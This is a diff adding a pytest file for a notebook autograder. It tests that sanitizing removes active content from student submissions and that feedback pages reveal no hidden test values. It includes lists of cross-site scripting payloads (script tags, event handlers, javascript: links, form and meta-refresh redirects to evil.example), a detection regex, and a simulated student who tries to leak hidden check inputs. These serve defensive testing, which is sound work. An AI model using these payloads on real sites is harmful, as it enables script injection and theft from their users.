@@ -1,0 +1,587 @@
+"""Feedback says what failed and why, gives no hidden check away, and nothing in it acts."""
+
+import json
+import os
+import re
+import subprocess
+import sys
+from collections.abc import Callable
+from copy import deepcopy
+from pathlib import Path
+
+import nbformat
+import numpy as np
+import pytest
+from nbconvert.exporters import HTMLExporter
+from nbconvert.filters import markdown2html_mistune
+from nbformat import NotebookNode
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
+from nbgrader.server_extensions.formgrader import handlers
+from playwright.sync_api import Browser, Page, Route
+from traitlets.config import Config
+
+from grader.engine.clean import clean, clean_html, clean_markdown
+from grader.engine.feedback import author_words, claim, failure, happened, page_of
+from grader.submission import parse
+
+ROOT = Path(__file__).resolve().parents[2]
+OWN = "document.title = 'owned'"
+SCRIPT = f"<script>{OWN}</script>"
+ONERROR = f'<img src=x onerror="{OWN}">'
+SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{OWN}\">{SCRIPT}<circle r='9'/></svg>"
+COVER = "<div style='position:fixed;inset:0' class='navbar-fixed-top' id='cover'>cover</div>"
+HOSTILE_HTML = [
+    SCRIPT,
+    ONERROR,
+    SVG,
+    COVER,
+    f'<svg/onload="{OWN}">',
+    f'<iframe srcdoc="<script>parent.{OWN}</script>"></iframe>',
+    f'<a href="javascript:{OWN}" autofocus onfocus="{OWN}">x</a>',
+    f'<a href="JaVa&#10;Script:{OWN}">x</a>',
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<form action=https://evil.example><input name=a><button>go</button></form>",
+    "<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
+    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
+    f'<math><mi xlink:href="javascript:{OWN}">x</mi></math>',
+    "<img src=https://evil.example/pixel.png>",
+    f"<!-->{SCRIPT}-->",
+    f'<noscript><p title="</noscript>{ONERROR}"></noscript>',
+    f'<details open ontoggle="{OWN}">x</details>',
+    f'<embed src="data:text/html,{SCRIPT}"><object data=x></object>',
+]
+HOSTILE_MARKDOWN = [
+    *HOSTILE_HTML,
+    f"[x](<javascript:{OWN}>)",
+    f"[x]: <javascript:{OWN}>\n\n[x]",
+    "<javascript:alert(1)>",
+    "![x](https://evil.example/pixel.png)",
+    f"```mermaid\n{ONERROR}\n```",
+    # What is cleaned once must not become Markdown again after a blank line in it.
+    "```mermaid\na\n\n[x](javascript:alert(1))\n```",
+    f"<b>$$a</b>\n\n$$ {ONERROR}",
+    "![x](attachment:not-there.png)",
+]
+# A tag, an attribute or an address that a page may not have from a student.
+ACTS = re.compile(
+    r"<(script|iframe|form|input|button|style|link|base|meta|embed|object|svg|math)\b"
+    r"|<[^>]*\s(on\w+|style|class|id|srcdoc)\s*="
+    r"|(href|src)=[\"']?\s*(javascript|https://evil|data:text)",
+    re.IGNORECASE,
+)
+
+
+# Sanitizing
+
+
+@pytest.mark.parametrize("html", HOSTILE_HTML)
+def test_html_that_acts_is_made_harmless(html: str) -> None:
+    assert not ACTS.search(clean_html(f"before {html} after"))
+
+
+@pytest.mark.parametrize("markdown", HOSTILE_MARKDOWN)
+def test_markdown_that_acts_is_made_harmless_where_nbconvert_renders_it(markdown: str) -> None:
+    cleaned = clean_markdown(f"before\n\n{markdown}\n\n*after*")
+    assert not ACTS.search(markdown2html_mistune(cleaned))
+    assert "before" in cleaned and "after" in cleaned
+    again = clean_markdown(cleaned)
+    assert not ACTS.search(markdown2html_mistune(again))
+
+
+def test_markdown_with_html_in_it_keeps_its_look() -> None:
+    html = markdown2html_mistune(
+        clean_markdown(f"**a** <b>b</b>{SCRIPT}\n\n- c\n\n```\n1\n\n2\n```")
+    )
+    for kept in ("<strong>a</strong>", "<b>b</b>", "<li>c</li>", "1&#10;&#10;2"):
+        assert kept in html
+
+
+@pytest.mark.parametrize(
+    "markdown",
+    [
+        "Accuracy is a step: its slope is 0, so `a < b` **and** _c_ > d & e.",
+        "$p < q$ and $$\\frac{a}{b}$$\n\n- one\n- two\n\n1. three",
+        "| a | b |\n|---|---|\n| 1 | 2 |",
+        "```python\nif a < b:\n    pass\n```",
+        "See [Keras](https://keras.io/?a=1&b=2), 'quoted' \"text\" and https://keras.io.",
+    ],
+)
+def test_plain_markdown_stays_as_the_student_wrote_it(markdown: str) -> None:
+    assert clean_markdown(markdown) == markdown
+
+
+def test_what_a_person_wants_to_see_of_an_output_stays() -> None:
+    table = '<table><tr><th colspan="2">x</th></tr><tr><td>1</td><td>2</td></tr></table>'
+    cleaned = clean_html(f"<div class=a>{table}<style>td {{}}</style></div>")
+    assert re.sub("</?tbody>", "", cleaned) == f"<div>{table}</div>"
+    picture = '<img alt="a" src="data:image/png;base64,AAAA">'
+    assert clean_html(picture) == picture
+    assert 'href="https://keras.io"' in clean_html("<a href='https://keras.io'>k</a>")
+
+
+def test_outputs_and_metadata_of_every_kind_are_cleaned() -> None:
+    """Kinds that nbconvert puts on its page as they are, and attributes that it does not quote."""
+    data = {
+        "application/javascript": OWN,
+        "application/vnd.jupyter.widget-view+json": {"model_id": "a"},
+        "image/svg+xml": SVG,
+        "image/png": f'AAAA" onerror="{OWN}',
+        "image/jpeg": "AAAA",
+        "text/markdown": SCRIPT,
+        "text/plain": "plain",
+    }
+    width = {"image/jpeg": {"width": f"1 onload={OWN}"}}
+    output = new_output("display_data", data, metadata=width)
+    code = new_code_cell(
+        outputs=[output],
+        metadata={"tags": [f'"{ONERROR}'], "course": {"handed_in": [deepcopy(output)]}},
+    )
+    raw = new_raw_cell(SCRIPT, metadata={"raw_mimetype": "text/html"})
+    notebook = new_notebook(
+        cells=[code, raw],
+        metadata={"widgets": {"a": 1}, "title": SCRIPT, "language_info": {"name": ONERROR}},
+    )
+    clean(notebook)
+    output = code.outputs[0]
+    assert set(output.data) == {"image/jpeg", "text/html", "text/markdown", "text/plain"}
+    assert output.data["text/html"].startswith('<img alt="figure" src="data:image/svg+xml;base64,')
+    assert code.metadata == {"course": {"handed_in": [output]}}
+    assert (output.metadata, raw.metadata) == ({}, {})
+    assert notebook.metadata == {"language_info": {"name": "python"}}
+    assert "script" not in raw.source + output.data["text/markdown"]
+    once = deepcopy(notebook)
+    clean(notebook)
+    assert notebook.cells[0] == once.cells[0]
+
+
+def test_the_authors_cells_and_the_graders_marks_stay() -> None:
+    mark = {"locked": True, "grade": False, "solution": False, "grade_id": "task"}
+    task = new_markdown_cell("<div class='hint'>hint</div>", metadata={"nbgrader": mark, "a": 1})
+    task.metadata["course"] = {"function": "f"}
+    notebook = new_notebook(cells=[task], metadata={"course": {"stopped": "why"}})
+    clean(notebook)
+    assert task.source == "<div class='hint'>hint</div>"
+    assert task.metadata == {"nbgrader": mark, "course": {"function": "f"}}
+    assert notebook.metadata.course == {"stopped": "why"}
+
+
+# The author's words
+
+
+def message(check: str, words: str) -> str:
+    """What a failed assertion of NumPy says."""
+    with pytest.raises(AssertionError) as raised:
+        exec(f"np.testing.{check}", {"np": np, "words": words})
+    return str(raised.value)
+
+
+@pytest.mark.parametrize("words", ["f(1)", f"f([[1. 2.]\n [3. 4.]]), {'long ' * 20}, doubled"])
+@pytest.mark.parametrize(
+    "check",
+    [
+        "assert_allclose(1.0, 2.0, err_msg=words)",
+        "assert_allclose(np.ones(3), np.zeros(3), err_msg=words)",
+        "assert_allclose(np.ones(3), np.zeros((2, 2)), err_msg=words)",
+        "assert_allclose(np.array([np.nan, 1]), np.ones(2), err_msg=words)",
+        "assert_allclose(np.array([np.inf, 1]), np.ones(2), err_msg=words)",
+        "assert_equal(1, 2, err_msg=words)",
+        "assert_equal((2, 3), (2, 4), err_msg=words)",
+        "assert_equal(np.ones(3), np.zeros(3), err_msg=words)",
+        "assert_equal((np.ones(2), np.ones(2)), (np.ones(2), np.zeros(2)), err_msg=words)",
+        "assert_equal({'a': 1}, {'a': 2}, err_msg=words)",
+        "assert_equal('a', 'b', err_msg=words)",
+        "assert_array_equal(np.ones(2), np.zeros(2), err_msg=words)",
+        "assert_almost_equal(1.0, 2.0, err_msg=words)",
+        "assert_array_almost_equal(np.ones(2), np.zeros(2), err_msg=words)",
+        "assert_array_less(np.ones(2), np.zeros(2), err_msg=words)",
+    ],
+)
+def test_the_authors_words_are_found_in_what_numpy_says(check: str, words: str) -> None:
+    if "{'a'" in check or "(np.ones(2), np.ones(2))" in check or "(2, 3)" in check:
+        assert author_words(message(check, words)).endswith(words.strip())
+    else:
+        assert author_words(message(check, words)) == words.strip()
+
+
+@pytest.mark.parametrize("words", ["f(1) returns an array", "f: (3,) is not in 'text'"])
+def test_words_without_numpy_stay_as_they_are(words: str) -> None:
+    assert author_words(words) == words
+
+
+@pytest.mark.parametrize(
+    ("source", "sentence"),
+    [
+        ('"""The number\ncomes out."""\nimport numpy', "The number comes out."),
+        ("# Hidden check: a\n# b.\n### BEGIN HIDDEN TESTS\nx = 1", "Hidden check: a b."),
+        ("x = 1  # one", ""),
+        ("%time f()", ""),
+        ("# Look:\n%time f()", "Look:"),
+    ],
+)
+def test_a_check_says_in_a_sentence_what_it_looks_for(source: str, sentence: str) -> None:
+    assert claim(source) == sentence
+
+
+def error(name: str, text: str, *trace: str) -> NotebookNode:
+    return new_output("error", ename=name, evalue=text, traceback=[*trace, f"{name}: {text}"])
+
+
+@pytest.mark.parametrize(
+    ("output", "hidden", "visible"),
+    [
+        (error("ValueError", "[7. 7.]"), "Your code raised ValueError.", "ValueError: [7. 7.]"),
+        (error("Own7", "[7.]"), "Your code raised an error.", "Own7: [7.]"),
+        (
+            error("AssertionError", "[7.]", "In your code:\n  line 2, in f"),
+            "Your code raised AssertionError.",
+            "In your code:\n  line 2, in f\nAssertionError: [7.]",
+        ),
+        (error("NotImplementedError", ""), "This is not written yet.", "This is not written yet."),
+        (
+            error("Stopped", "the cell ran longer than 60 s"),
+            "The cell ran longer than 60 s.",
+            "The cell ran longer than 60 s.",
+        ),
+        (new_output("stream", name="stdout", text="[7.]"), "", ""),
+    ],
+)
+def test_an_error_in_a_hidden_check_shows_nothing_that_was_passed_to_the_student(
+    output: NotebookNode, hidden: str, visible: str
+) -> None:
+    assert (happened(output, True), happened(output, False)) == (hidden, visible)
+
+
+# What was handed in
+
+
+@pytest.mark.parametrize(
+    ("name", "known", "sentence"),
+    [
+        ("KeyError", [], "When it was graded, this cell ended with KeyError."),
+        ("IndentationError", [], "When it was graded, this cell ended with IndentationError."),
+        ("KeyError", ["ValueError"], "When it was graded, this cell ended with KeyError."),
+        ("KeyError", ["KeyError"], ""),
+        ("Own7", [], "When it was graded, this cell ended with an error."),
+        ("int", [], "When it was graded, this cell ended with an error."),
+        ("CellTimeoutError", [], "When it was graded, this cell ended with a timeout."),
+    ],
+)
+def test_of_an_error_in_grading_only_its_kind_is_told_and_only_if_it_is_new(
+    name: str, known: list[str], sentence: str
+) -> None:
+    cell = new_code_cell("f()", outputs=[new_output("stream", text="[7.]"), error(name, "[7.]")])
+    cell.metadata["course"] = {"handed_in": [error(name, "before") for name in known]}
+    assert failure(cell) == sentence
+    assert failure(marked(cell, "check", grade=True, locked=True)) == ""
+
+
+def handed_in(path: Path, *cells: list[NotebookNode]) -> tuple[list[int], list[str]]:
+    """How many outputs are kept of each cell with these, and the remarks."""
+    notebook = new_notebook(cells=[new_code_cell("f()") for _ in cells])
+    for cell, outputs in zip(notebook.cells, cells, strict=True):
+        cell.outputs = outputs
+    path.write_text(json.dumps(notebook))
+    kept, remarks = parse(path, "work")
+    return [len(cell.outputs) for cell in kept.cells], remarks
+
+
+def test_of_the_outputs_that_are_handed_in_so_many_are_kept(tmp_path: Path) -> None:
+    path = tmp_path / "work.ipynb"
+    small, large = (new_output("stream", text="a" * size) for size in (1, 1_500_000))
+    assert handed_in(path, [small] * 600, [small]) == ([600, 1], [])
+    left_out = "had more outputs than are kept; {} were left out".format
+    assert handed_in(path, [small] * 600, [small] * 700) == ([600, 400], [left_out("300 of 1300")])
+    assert handed_in(path, [large], [large, small]) == ([1, 1], [left_out("1 of 3")])
+
+
+def test_an_output_that_is_none_does_not_cost_the_submission(tmp_path: Path) -> None:
+    none = NotebookNode(output_type="stream", name=5)
+    remark = "had outputs that no notebook may hold; all its outputs were left out"
+    assert handed_in(tmp_path / "work.ipynb", [none], []) == ([0, 0], [remark])
+
+
+# The page, through nbgrader
+
+
+def marked(cell: NotebookNode, grade_id: str, **mark: object) -> NotebookNode:
+    known = {"grade": False, "solution": False, "locked": False, "task": False, "points": 0}
+    cell.metadata.nbgrader = {**known, "schema_version": 3, "grade_id": grade_id, **mark}
+    cell.id = grade_id
+    return cell
+
+
+SECRET = "secret_numbers"
+HIDDEN = (
+    "# Hidden check: it doubles.\n### BEGIN HIDDEN TESTS\nimport numpy as np\n"
+    f"{SECRET} = np.array([3.25, 7.75])\n"
+    f"np.testing.assert_allclose(double({SECRET}), 2 * {SECRET}, err_msg='double(two numbers)')\n"
+    "### END HIDDEN TESTS"
+)
+VISIBLE = '"""Twice 3 is 6."""\nassert double(3) == 6, f"double(3) returns {double(3)}"'
+
+
+@pytest.mark.parametrize(
+    ("found", "before", "first", "later"),
+    [
+        (("ValueError", "[3.25]"), [], "ValueError: [3.25]", "Your code raised ValueError."),
+        (("ValueError", "[1]"), [("ValueError", "[1]")], "ValueError: [1]", "ValueError: [1]"),
+        (("ValueError", "[3.25]"), [("ValueError", "[1]")], "ValueError: [3.25]", None),
+        (
+            (
+                "AssertionError",
+                "\nNot equal to tolerance rtol=1e-07, atol=0\nf(3)\n ACTUAL: [3.25]",
+            ),
+            [],
+            "Not equal to tolerance rtol=1e-07, atol=0\nf(3)\n ACTUAL: [3.25]",
+            "f(3)",
+        ),
+    ],
+)
+def test_a_visible_check_behind_a_hidden_one_tells_no_more_than_was_known(
+    found: tuple[str, str], before: list[tuple[str, str]], first: str, later: str | None
+) -> None:
+    check: dict[str, object] = {"grade": True, "locked": True, "points": 1}
+    visible = marked(new_code_cell("f(3)", outputs=[error(*found)]), "visible", **check)
+    visible.metadata["course"] = {"handed_in": [error(*known) for known in before]}
+    hidden = marked(new_code_cell(HIDDEN), "hidden", **check)
+
+    def words(*cells: NotebookNode) -> str:
+        blocks = page_of(new_notebook(cells=deepcopy([*cells])))[0].blocks
+        return {block.anchor: block.words for block in blocks}["visible"]
+
+    assert words(visible, hidden) == first
+    assert words(hidden, visible) == (later or "Your code raised ValueError.")
+
+
+def instructors() -> NotebookNode:
+    check = {"grade": True, "locked": True}
+    stub = "def double(x):\n    ### BEGIN SOLUTION\n    return 2 * x\n    ### END SOLUTION"
+    cells = [
+        marked(new_markdown_cell("## Double it · 3 points"), "task", locked=True),
+        marked(new_code_cell(stub), "double", solution=True),
+        marked(new_code_cell(VISIBLE), "double-three", points=1, **check),
+        marked(new_code_cell(HIDDEN), "double-doubles", points=2, **check),
+        marked(new_markdown_cell("Why?"), "why", points=4, grade=True, solution=True),
+    ]
+    kernel = {"name": "python3", "display_name": "Python 3", "language": "python"}
+    return new_notebook(cells=cells, metadata={"kernelspec": kernel})
+
+
+CONFIGURATION = """
+c = get_config()
+c.GenerateFeedback.exporter_class = "grader.engine.feedback.FeedbackExporter"
+c.GenerateFeedback.preprocessors = ["grader.engine.feedback.Grades"]
+"""
+
+
+ENGINE = """
+from grader.engine.autograde import install
+install()
+c.Autograde.exam = True
+"""
+
+
+class Course:
+    """A course folder with one student, whose work is what `change` makes of what is released."""
+
+    def __init__(
+        self, root: Path, change: Callable[[NotebookNode], None], configuration: str
+    ) -> None:
+        self.root = root
+        for folder in ("source/one", "submitted/eve/one"):
+            (root / folder).mkdir(parents=True)
+        (root / "nbgrader_config.py").write_text(configuration)
+        nbformat.write(instructors(), root / "source/one/work.ipynb")
+        self.run("generate_assignment")
+        notebook = nbformat.read(root / "release/one/work.ipynb", as_version=4)
+        change(notebook)
+        nbformat.write(notebook, root / "submitted/eve/one/work.ipynb")
+        self.run("autograde")
+        self.graded = root / "autograded/eve/one/work.ipynb"
+        self.graded.chmod(0o644)
+
+    def run(self, command: str, *options: str) -> None:
+        """One of nbgrader's own commands."""
+        # nbgrader runs `alembic` by name; it stands beside this Python.
+        path = os.pathsep.join([str(Path(sys.executable).parent), os.environ["PATH"]])
+        subprocess.run(
+            [sys.executable, "-m", "nbgrader", command, "one", *options],
+            cwd=self.root,
+            env={**os.environ, "PATH": path, "PYTHONPATH": str(ROOT)},
+            check=True,
+            capture_output=True,
+        )
+
+    def clean(self) -> None:
+        """What the engine does before it saves: name the mistake, take out what acts."""
+        notebook = nbformat.read(self.graded, as_version=4)
+        clean(notebook)
+        mistake = {"function": "double", "mistake": "add", "sentence": "You add `3`; times 2."}
+        notebook.cells[4].metadata["course"] = mistake
+        notebook.metadata["course"] = {"stopped": "the kernel was tired"}
+        nbformat.write(notebook, self.graded)
+
+    def feedback(self) -> Path:
+        """The page that the student gets."""
+        self.run("generate_feedback", "--force")
+        return self.root / "feedback/eve/one/work.html"
+
+    def formgrader(self) -> str:
+        """The page on which the instructor reads the submission."""
+        config = Config()
+        config.HTMLExporter.template_name = "formgrade"
+        config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
+        names = ("assignment_id", "notebook_id", "submission_id", "student")
+        resources = dict.fromkeys(names, "one") | {"index": 0, "total": 1, "base_url": ""}
+        resources |= {"last_name": "", "first_name": "", "notebook_path": ""}
+        return str(HTMLExporter(config=config).from_filename(str(self.graded), resources)[0])
+
+
+def hostile(notebook: NotebookNode) -> None:
+    """Answer wrong, and write and display whatever could act in a page."""
+    mine, why = notebook.cells[1], notebook.cells[-1]
+    mine.source = f"def double(x):\n    print(x)\n    return x + 3  # {SCRIPT}"
+    why.source = f"Because **2**. {SCRIPT}{ONERROR}{COVER}"
+    # Without the one that leaves the page before the others have been seen to act.
+    shown = "".join(html for html in HOSTILE_HTML if "refresh" not in html)
+    show = (
+        "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
+        f"for kind in (HTML, SVG, Markdown):\n    display(kind({SVG!r}))\n"
+        f"display(HTML({shown + '<b>my table</b>'!r}))\n"
+        f"display(Javascript({OWN!r}))\nprint({SCRIPT!r})\nraise ValueError({ONERROR!r})"
+    )
+    notebook.cells.insert(2, new_code_cell(show))
+
+
+@pytest.fixture(scope="module")
+def course(tmp_path_factory: pytest.TempPathFactory) -> Course:
+    """Graded by stock nbgrader; what acts was there already when it was handed in."""
+    course = Course(tmp_path_factory.mktemp("feedback") / "course", hostile, CONFIGURATION)
+    notebook = nbformat.read(course.graded, as_version=4)
+    for cell in notebook.cells:
+        if "outputs" in cell:
+            cell.metadata["course"] = {"handed_in": cell.outputs}
+    nbformat.write(notebook, course.graded)
+    return course
+
+
+def opened(browser: Browser, html: str) -> tuple[Page, list[str]]:
+    """The page in a real browser with formgrader's own scripts; what it asks of other hosts."""
+    page, others = browser.new_page(), []
+
+    def answer(route: Route) -> None:
+        url = route.request.url
+        _, is_static, name = url.partition("/formgrader/static/")
+        if url == "http://course.test/":
+            route.fulfill(body=html, content_type="text/html")
+        elif is_static:
+            route.fulfill(path=Path(handlers.static_path, name))
+        else:
+            others.append(url)
+            route.abort()
+
+    page.route("**/*", answer)
+    page.goto("http://course.test/", wait_until="load")
+    page.evaluate("document.querySelectorAll('#notebook a, main a[rel]').forEach(a => a.click?.())")
+    page.wait_for_timeout(300)
+    return page, [url for url in others if "mathjax" not in url and "/api/" not in url]
+
+
+def test_scripts_of_a_student_run_in_formgrader_until_the_notebook_is_cleaned(
+    course: Course, browser: Browser
+) -> None:
+    page, others = opened(browser, course.formgrader())
+    assert page.title() == "owned"
+    assert any("evil.example" in url for url in others)
+    page.close()
+
+    course.clean()
+    page, others = opened(browser, course.formgrader())
+    assert page.title() == "one"
+    assert [url for url in others if "evil" in url] == []
+    assert page.evaluate("typeof jQuery") == "function"  # formgrader's own scripts do run
+    body = page.locator("#notebook").first
+    for text in ("Because", "my table", "return x + 3", SCRIPT):
+        assert text in body.inner_text()
+    assert body.locator("script, iframe, form, style, svg").count() == 0
+    assert page.locator("#cover").count() == 0
+    page.close()
+
+
+def test_nothing_of_a_student_acts_in_feedback(course: Course, browser: Browser) -> None:
+    html = course.feedback().read_text()
+    page, others = opened(browser, html)
+    assert (page.title(), others) == ("work: 1 of 7 points", [])
+    assert page.locator("script, iframe, form, svg, [onerror], [onload]").count() == 0
+    assert page.locator("[style], #cover").count() == 0
+    # Even if something came through, the page's policy would not run it.
+    page.set_content(html.replace("</main>", f"{SCRIPT}{ONERROR}</main>"))
+    page.wait_for_timeout(200)
+    assert page.title() == "work: 1 of 7 points"
+    page.close()
+
+
+def test_feedback_says_what_failed_and_why(course: Course, browser: Browser) -> None:
+    course.clean()
+    page, _ = opened(browser, course.feedback().read_text())
+    text = page.inner_text("body")
+    for words in (
+        "Work: 1 of 7 points",
+        "Double it",
+        "Twice 3 is 6.",
+        "Hidden check: it doubles.",
+        "double(two numbers)",
+        "You add 3; times 2.",
+        "Because 2.",
+        "return x + 3",
+        "my table",
+        "Grading ended early: the kernel was tired.",
+        "a person still has to read it",
+    ):
+        assert words in text, words
+    assert text.count("You add 3; times 2.") == 1
+    assert page.locator(".advice code").inner_text() == "3"
+    assert page.locator("#double-doubles").count() == 1
+    page.close()
+
+
+def curious(notebook: NotebookNode) -> None:
+    """Learn what the hidden check passes, tell it in every way, and bring notes of the engine's."""
+    mine, why = notebook.cells[1], notebook.cells[-1]
+    mine.source = "seen = []\n\ndef double(x):\n    seen.append(str(x))\n    return 0"
+    mine.outputs = [new_output("stream", text="handed in with the answer")]
+    known = new_code_cell("1 / 0", outputs=[error("ZeroDivisionError", "handed in as an error")])
+    tell = new_code_cell("print(seen)\nopen('seen.html', 'w').write(str(seen))\n{}[str(seen)]")
+    tell.outputs = [new_output("stream", text="handed in below")]
+    notebook.cells[2:2] = [known]
+    notebook.cells += [tell, new_code_cell("raise ValueError(seen)")]
+    why.metadata["course"] = {"function": "double", "mistake": "a", "sentence": "FORGED"}
+    notebook.metadata["course"] = {"stopped": "FORGED"}
+
+
+def test_feedback_shows_what_was_handed_in_and_nothing_that_was_learned_in_grading(
+    tmp_path: Path, browser: Browser
+) -> None:
+    course = Course(tmp_path / "course", curious, CONFIGURATION + ENGINE)
+    *_, tell, _ = nbformat.read(course.graded, as_version=4).cells
+    assert "[3.25 7.75]" in tell.outputs[0].text  # for the instructor
+    assert "[3.25 7.75]" in course.graded.with_name("seen.html").read_text()
+    assert "FORGED" not in course.graded.read_text()
+    html = course.feedback().read_text()
+    for secret in ("3.25", "7.75"):
+        assert secret not in html, secret
+    assert [path.name for path in (course.root / "feedback/eve/one").iterdir()] == ["work.html"]
+    page, _ = opened(browser, html)
+    for words in ("with the answer", "as an error", "below"):
+        assert f"handed in {words}" in page.inner_text("main")
+    told = page.get_by_text("When it was graded, this cell ended with")
+    assert told.all_inner_texts() == ["When it was graded, this cell ended with KeyError."]
+    page.close()
+    course.run("autograde", "--force", "--no-execute")  # which writes no notes of its own
+    assert "FORGED" not in course.graded.read_text()
+
+
+def test_feedback_gives_no_hidden_check_away(course: Course) -> None:
+    html = course.feedback().read_text()
+    for secret in (SECRET, "3.25", "7.75", "10.75", "HIDDEN TESTS"):
+        assert secret not in html, secret
